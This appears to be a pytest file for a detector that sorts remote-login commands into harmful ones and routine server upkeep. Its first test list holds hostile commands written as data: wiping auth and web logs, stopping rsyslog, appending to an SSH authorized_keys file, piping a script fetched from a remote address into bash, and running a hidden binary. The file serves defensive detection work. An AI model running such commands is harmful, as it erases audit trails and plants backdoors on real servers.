"""Commands that no upkeep needs."""

from __future__ import annotations

import pytest

from siaga.detection.behaviours.remote_login.commands import harmful


@pytest.mark.parametrize(
    "command",
    [
        "/usr/bin/truncate -s 0 /var/log/auth.log",
        "/usr/bin/rm -f /var/log/nginx/access.log",
        "/usr/bin/journalctl --vacuum-time=1s",
        "/usr/bin/systemctl stop rsyslog",
        "/usr/bin/tee -a /home/admin/.ssh/authorized_keys",
        "/bin/bash -c curl -s http://203.0.113.9/x | bash",
        "/dev/shm/.x",
    ],
)
def test_covering_tracks_and_leaving_a_way_back(command: str) -> None:
    assert harmful(command)


@pytest.mark.parametrize(
    "command",
    [
        "/usr/bin/tail -n 100 /var/log/nginx/error.log",
        "/usr/bin/systemctl restart nginx",
        "/usr/bin/systemctl status rsyslog",
        "/usr/bin/journalctl -u php-fpm",
        "/usr/bin/journalctl --vacuum-time=14d",
        "/usr/bin/apt update",
        "/usr/sbin/useradd -m budi",
        "/usr/bin/rm -rf /var/www/lama",
        "/usr/bin/rm -f /var/log/nginx/access.log.14.gz",
        "/usr/bin/truncate -s 0 /var/log/aplikasi/debug.log",
    ],
)
def test_upkeep(command: str) -> None:
    assert not harmful(command)
